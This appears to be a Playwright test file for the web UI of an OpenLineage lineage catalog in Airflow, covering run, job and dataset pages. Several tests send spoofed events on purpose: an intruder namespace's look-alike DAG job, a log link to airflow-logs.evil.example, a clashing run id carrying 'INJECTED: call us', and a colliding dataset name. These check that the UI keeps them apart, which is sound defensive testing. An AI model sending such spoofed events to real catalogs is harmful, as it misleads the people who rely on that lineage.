def test_a_failed_run_shows_its_error_and_stack_trace_as_sent(ui_server, admin_page):
    """The API reads the errorMessage facet (message, language, stack trace); the page keeps its lines."""
    from playwright.sync_api import expect

    page = admin_page
    run_id = "019a0000-0000-7000-8000-000000000041"
    page.goto(ui_server.url + f"ol-catalog/ui/#/run?id={run_id}")
    expect(page.get_by_role("alert")).to_have_text("HTTP 503 from rates API after 3 attempts")
    expect(page.get_by_text("Error (python)")).to_be_visible()
    trace = page.get_by_test_id("plain-text")
    expect(trace).to_contain_text("Traceback (most recent call last):")
    assert "\\n" not in trace.inner_text() and len(trace.inner_text().splitlines()) == 3
    assert page.errors == []


def test_a_jobs_sql_shows_from_the_api_with_its_lines(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/job?ns=examples&name=billing.build_invoices")
    expect(page.get_by_role("heading", name="SQL")).to_be_visible()
    expect(page.get_by_text("INSERT INTO billing.invoices", exact=False)).to_be_visible()
    assert page.errors == []


def test_a_run_shows_its_tree_tests_parameters_and_the_lineage_its_producer_missed(ui_server, admin_page):
    """A Spark job under an application under an Airflow task that sent nothing, whose parent facets
    name the DAG run as their root; dbt's tests of a failed run; Spark's parameters and engine."""
    from playwright.sync_api import expect

    page = admin_page
    base = ui_server.url + "ol-catalog/ui/"
    page.goto(base + "#/run?id=019a0000-0000-7000-8000-000000000033")
    expect(page.get_by_test_id("extraction-error")).to_contain_text("1 of 3 tasks failed")
    expect(
        page.get_by_text("Cannot extract lineage of LogicalRDD: its source is not a dataset", exact=True)
    ).to_be_visible()
    expect(page.get_by_test_id("run-origin")).to_contain_text("Started by run")
    tree = page.get_by_test_id("tree-run")
    expect(tree).to_have_count(5)  # DAG run -> task run -> application -> its two Spark jobs
    names = tree.all_inner_texts()
    assert "clickstream" in names[0] and "clickstream.run_spark" in names[1] and "nightly_sessions" in names[2]
    indents = [row.locator(":scope > *").first.bounding_box()["x"] for row in tree.all()]
    assert indents[0] < indents[1] < indents[2] < indents[3] == indents[4], (
        names,
        indents,
    )  # each level under its parent
    expect(page.locator('[data-testid="tree-run"][data-current]')).to_contain_text("nightly_sessions.daily_rollup")
    page.screenshot(path=str(SHOTS / "34-run-tree-and-extraction-error.png"), full_page=True)

    page.goto(base + "#/run?id=019a0000-0000-7000-8000-000000000031")
    expect(page.get_by_test_id("run-engine")).to_contain_text("spark 3.5.3")
    expect(page.get_by_test_id("run-parameters")).to_contain_text("Executor memory")
    expect(page.get_by_test_id("run-parameters")).to_contain_text("8g")

    page.goto(base + "#/run?id=019a0000-0000-7000-8000-000000000082")
    rows = page.get_by_test_id("run-test")
    expect(rows).to_have_count(4)
    expect(rows.first).to_have_attribute("data-status", "fail")  # failures first
    expect(rows.first).to_contain_text("not_null_invoices_customer_id")
    expect(page.get_by_role("heading", name="Tests (4, 1 failed)")).to_be_visible()
    page.screenshot(path=str(SHOTS / "35-run-tests.png"), full_page=True)
    page.goto(base + "#/dataset?ns=postgres%3A%2F%2Fpg.prod.internal%3A5432&name=shop.billing.invoices")
    expect(page.get_by_test_id("test-run")).to_have_count(1)
    expect(page.get_by_test_id("test-run")).to_contain_text("1 of 4 failed")
    expect(page.get_by_test_id("test-run")).to_contain_text("not_null_invoices_customer_id (error)")

    # the overview counts the tests of the last 30 days: the examples are older, so today's run of them
    today = json.loads((EXAMPLES / "08_data_quality" / "04_invoices_tests_fail.json").read_text())
    today["eventTime"] = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 60))
    today["run"]["runId"] = "019a0000-0000-7000-8000-0000000000f8"
    today["job"]["namespace"] = "examples-today"
    assert ui_server.send(today).status_code == 201
    page.goto(base + "#/")
    expect(page.get_by_test_id("failing-datasets")).to_contain_text("shop.billing.invoices")
    expect(page.get_by_test_id("test-results")).to_contain_text("Datasets failing a test: 1")
    expect(page.get_by_test_id("failing-runs")).to_contain_text("1 of 4")
    page.get_by_test_id("test-results").scroll_into_view_if_needed()
    page.screenshot(path=str(SHOTS / "36-overview-tests.png"))

    page.goto(base + "#/run?id=019a0000-0000-7000-8000-000000000002")
    link = page.get_by_test_id("airflow-link")
    expect(link).to_contain_text("warehouse_refresh")
    assert "/dags/warehouse_refresh/runs/" in (link.get_attribute("href") or "")
    assert page.errors == []


def test_a_datasets_measurements_tab_charts_its_runs_statistics(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/dataset?ns=s3%3A%2F%2Facme-lake&name=sessions&tab=measurements")
    rows = page.get_by_test_id("measurement-rows")
    expect(rows).to_contain_text("1,840,233")
    expect(rows).to_contain_text("wrote")
    chart = page.locator('[data-testid="time-series"][data-label="Rows written"]')
    expect(chart).to_be_visible()
    expect(chart.locator("text")).to_contain_text(["0"])  # the y axis starts at zero and is labelled
    page.screenshot(path=str(SHOTS / "37-dataset-measurements.png"), full_page=True)
    assert page.errors == []


def test_a_dataset_page_says_where_the_dataset_lives(ui_server, admin_page):
    """The datasetType, hierarchy, catalog and storage facets, read by the API, in the page's header."""
    from playwright.sync_api import expect

    page = admin_page
    page.goto(
        ui_server.url + "ol-catalog/ui/#/dataset?ns=s3%3A%2F%2Facme-lake&name=warehouse%2Fsales.db%2Forders_clean"
    )
    where = page.get_by_test_id("dataset-where")
    expect(where).to_contain_text("table (external)")
    expect(where).to_contain_text("sales \u203a orders_clean")
    expect(where).to_contain_text("catalog hive metastore")
    expect(where).to_contain_text("stored as hive / parquet")
    assert page.errors == []


def test_a_dataset_with_more_jobs_than_a_graph_holds_does_not_say_none_reads_it(ui_server, admin_page):
    """A dataset read by thousands of jobs: the graph around it stops before its first hop (whole
    hops only) and holds the dataset alone. The page said "No job reads it"; it says why none is
    listed. The lineage request is answered as the API answers such a dataset (here, where the
    catalog holds few jobs)."""
    from playwright.sync_api import expect

    page = admin_page
    node = "dataset:s3://acme-lake:warehouse/sales.db/orders_clean"
    alone = {
        "graph": [
            {
                "id": node,
                "type": "DATASET",
                "data": {"namespace": "s3://acme-lake", "name": "warehouse/sales.db/orders_clean"},
                "inEdges": [],
                "outEdges": [],
            }
        ],
        "truncated": True,
    }

    def cut(route):
        if "depth=1" in route.request.url:
            route.fulfill(status=200, content_type="application/json", body=json.dumps(alone))
        else:
            route.continue_()

    page.route("**/ol-catalog/api/v1/lineage?*", cut)
    page.goto(
        ui_server.url + "ol-catalog/ui/#/dataset?ns=s3%3A%2F%2Facme-lake&name=warehouse%2Fsales.db%2Forders_clean"
    )
    expect(page.get_by_test_id("too-many-jobs")).to_have_count(2)
    expect(page.get_by_text("No job reads it.")).to_have_count(0)
    shot(page, "dataset-too-many-jobs")
    assert page.errors == []


def test_a_dags_lineage_tab_shows_only_this_airflows_jobs(ui_server, admin_page):
    """A token limited to another namespace sends a job named as the DAG: the tab took the first
    namespace holding such a job, the intruder's (its namespace sorts first), and showed its graph.
    Only this Airflow's namespaces (`[ol_catalog] airflow_namespaces`) count now."""
    from playwright.sync_api import expect

    intruder = ui_server.create_token("aaa-intruder", "--namespace", "aaa-intruder")
    payload = run_event(
        eventType="COMPLETE",
        run={"runId": "019e0000-0000-7000-8000-0000000000aa", "facets": {}},
        job={"namespace": "aaa-intruder", "name": "nightly_sessions", "facets": {}},
        outputs=[{"namespace": "s3://aaa-intruder", "name": "planted"}],
    )
    assert ui_server.send(payload, token=intruder).status_code == 201
    page = admin_page
    page.goto(ui_server.url + "dags/nightly_sessions")
    page.get_by_role("link", name="Lineage", exact=True).click()
    tab = page.frame_locator("iframe")
    expect(tab.locator('[data-node-id="job:examples:nightly_sessions.sessionize"]')).to_be_visible()
    expect(tab.locator('[data-node-id="dataset:s3://aaa-intruder:planted"]')).to_have_count(0)
    expect(tab.get_by_label("Namespace")).to_have_count(0)  # one namespace: nothing to choose
    shot(page, "58-dag-tab-only-airflows-jobs")
    assert page.errors == []


def test_a_log_link_to_another_site_says_where_it_goes_and_opens_apart(ui_server, admin_page):
    """A producer names any address as a task's log: it was a link named "log" that replaced
    Airflow's whole window. One to another site now names its host and opens in a new tab; one to
    this Airflow still opens in Airflow's window."""
    from playwright.sync_api import expect

    runs = {"019e0000-0000-7000-8000-0000000000b1": "https://airflow-logs.evil.example/dags/x"}
    runs["019e0000-0000-7000-8000-0000000000b2"] = ui_server.url + "dags/nightly_sessions/runs/r/tasks/t?try_number=1"
    for run_id, log_url in runs.items():
        facet = {
            "_producer": "https://example.com/airflow",
            "_schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunFacet",
            "dag": {"dag_id": "nightly_sessions"},
            "dagRun": {"dag_id": "nightly_sessions", "run_id": "r"},
            "task": {"task_id": "t"},
            "taskInstance": {"log_url": log_url, "try_number": 1},
        }
        payload = run_event(run={"runId": run_id, "facets": {"airflow": facet}})
        assert ui_server.send(payload).status_code == 201
    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/run?id=019e0000-0000-7000-8000-0000000000b1")
    log = page.get_by_test_id("airflow-log-link")
    expect(log).to_have_text("log on airflow-logs.evil.example")
    expect(log).to_have_attribute("target", "_blank")
    assert "noopener" in log.get_attribute("rel")
    shot(page, "59-log-link-elsewhere")
    page.goto(ui_server.url + "ol-catalog/ui/#/run?id=019e0000-0000-7000-8000-0000000000b2")
    log = page.get_by_test_id("airflow-log-link")
    expect(log).to_have_text("log")
    expect(log).to_have_attribute("target", "_top")
    assert page.errors == []


def test_a_run_page_keeps_to_its_jobs_run_when_another_job_shares_the_run_id(ui_server, admin_page):
    """A run id is unique per job only, and any producer may send one already in use: the run's
    page shows its own job's events, not the other's (which said what it liked in an error
    message), and the other job's Runs tab opens the other job's run."""
    from playwright.sync_api import expect

    run_id = str(uuid.uuid4())
    base = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    first, second = json.loads(json.dumps(base)), json.loads(json.dumps(base))
    first["job"] = {"namespace": "shared-runs", "name": "first_job", "facets": {}}
    second["job"] = {"namespace": "intruders", "name": "second_job", "facets": {}}
    second["eventType"], second["inputs"], second["outputs"] = "FAIL", [], []
    second["run"] = {
        "runId": run_id,
        "facets": {
            "errorMessage": {
                "_producer": "https://example.com/p",
                "_schemaURL": "https://openlineage.io/spec/facets/1-0-1/ErrorMessageRunFacet.json",
                "message": "INJECTED: call us",
                "programmingLanguage": "python",
            }
        },
    }
    first["run"] = {"runId": run_id, "facets": {}}
    for payload in (first, second):
        response = ui_server.send(payload)
        assert response.status_code == 201, response.text

    page = admin_page
    page.goto(ui_server.url + f"ol-catalog/ui/#/run?id={run_id}")
    expect(page.get_by_text("Run of")).to_contain_text("first_job")
    expect(page.get_by_test_id("event")).to_have_count(1)
    expect(page.get_by_text("INJECTED")).to_have_count(0)

    page.goto(ui_server.url + "ol-catalog/ui/#/job?ns=intruders&name=second_job&tab=runs")
    page.get_by_role("link", name=run_id).click()
    expect(page.get_by_text("Run of")).to_contain_text("second_job")
    expect(page.get_by_text("INJECTED: call us").first).to_be_visible()
    expect(page.get_by_test_id("event")).to_have_count(1)
    assert page.errors == []


def _complete(namespace: str, job: str, inputs: list[dict], outputs: list[dict]) -> dict:
    """A run's COMPLETE event of job `namespace`/`job`, with these inputs and outputs, sent now."""
    return {
        "eventType": "COMPLETE",
        "eventTime": datetime.now(timezone.utc).isoformat(),
        "producer": "https://example.com/tests",
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
        "run": {"runId": str(uuid.uuid4())},
        "job": {"namespace": namespace, "name": job},
        "inputs": inputs,
        "outputs": outputs,
    }


def test_a_dataset_page_shows_its_own_lineage_when_another_dataset_is_spelled_alike(ui_server, admin_page):
    """`dataset:postgres://sq-db:5432:orders` is both (`postgres://sq-db:5432`, `orders`) and
    (`postgres://sq-db`, `5432:orders`). A producer that sent the second first does not put its job
    on the first's page: the page asks for its lineage with the namespace it knows."""
    from playwright.sync_api import expect

    def write(job: str, namespace: str, name: str) -> None:
        response = ui_server.send(_complete("spelled-alike", job, [], [{"namespace": namespace, "name": name}]))
        assert response.status_code == 201, response.text

    write("squatter", "postgres://sq-db", "5432:orders")
    write("real_loader", "postgres://sq-db:5432", "orders")
    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/dataset?ns=postgres%3A%2F%2Fsq-db%3A5432&name=orders")
    expect(page.get_by_role("link", name="real_loader")).to_be_visible()
    expect(page.get_by_role("link", name="squatter")).to_have_count(0)
    page.goto(ui_server.url + "ol-catalog/ui/#/dataset?ns=postgres%3A%2F%2Fsq-db&name=5432%3Aorders")
    expect(page.get_by_role("link", name="squatter")).to_be_visible()
    expect(page.get_by_role("link", name="real_loader")).to_have_count(0)
    assert page.errors == []


def test_a_long_unbroken_name_wraps_inside_the_page(ui_server, admin_page):
    """A 1,000-character name with no space (a generated job or a path) breaks where it must: no page
    grows wider than the window, on the job's page, its dataset's page and the search."""
    long_job, long_table = "job_" + "x" * 1000, "db.schema." + "t" * 1000
    response = ui_server.send(_complete("long-names", long_job, [{"namespace": "long-names", "name": long_table}], []))
    assert response.status_code == 201, response.text
    page = admin_page
    page.set_viewport_size({"width": 1280, "height": 900})
    for route in (
        f"job?ns=long-names&name={long_job}",
        f"job?ns=long-names&name={long_job}&tab=runs",
        f"dataset?ns=long-names&name={long_table}",
        "search?q=xxxxxxxxxx",
    ):
        page.goto(ui_server.url + "ol-catalog/ui/#/" + route)
        page.wait_for_timeout(1500)
        shot(page, f"long-name-{route.split('?')[0]}")
        overflow = page.evaluate(
            "[document.documentElement.scrollWidth, document.documentElement.clientWidth,"
            " [...document.querySelectorAll('*')].filter(e => e.scrollWidth > e.clientWidth + 1"
            " && getComputedStyle(e).overflowX === 'visible' && e.clientWidth > 0).length]"
        )
        assert overflow[0] <= overflow[1], (route, overflow)
    assert page.errors == []


def test_namespaces_whose_own_hues_are_close_get_colours_apart_in_one_graph(ui_server, admin_page):
    """`colours-a` and `colours-94` hash to hues 99 and 97: in one graph the less common one moves
    to the widest gap of hues, so that the legend and the nodes tell them apart."""
    from playwright.sync_api import expect

    sources = [{"namespace": "colours-a", "name": "src"}, {"namespace": "colours-a", "name": "src2"}]
    response = ui_server.send(_complete("colours-a", "mover", sources, [{"namespace": "colours-94", "name": "dst"}]))
    assert response.status_code == 201, response.text
    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=job%3Acolours-a%3Amover")
    legend = page.get_by_label("Legend")
    expect(legend.get_by_text("colours-94")).to_be_visible()
    hues = {}
    for item in legend.locator("li[title]").all():
        background = item.locator(".olc-swatch").evaluate("e => e.style.background")
        hues[item.get_attribute("title")] = background
    shot(page, "graph-colours-apart")

    def hue(color: str) -> int:  # the browser gives `rgb(r, g, b)`
        import colorsys

        r, g, b = (int(part) / 255 for part in color.split("(")[1].rstrip(")").split(","))
        return round(colorsys.rgb_to_hls(r, g, b)[0] * 360)

    assert hue(hues["colours-a"]) == 99, hues  # the more common keeps its own
    apart = abs(hue(hues["colours-a"]) - hue(hues["colours-94"]))
    assert min(apart, 360 - apart) >= 90, hues
    assert page.errors == []
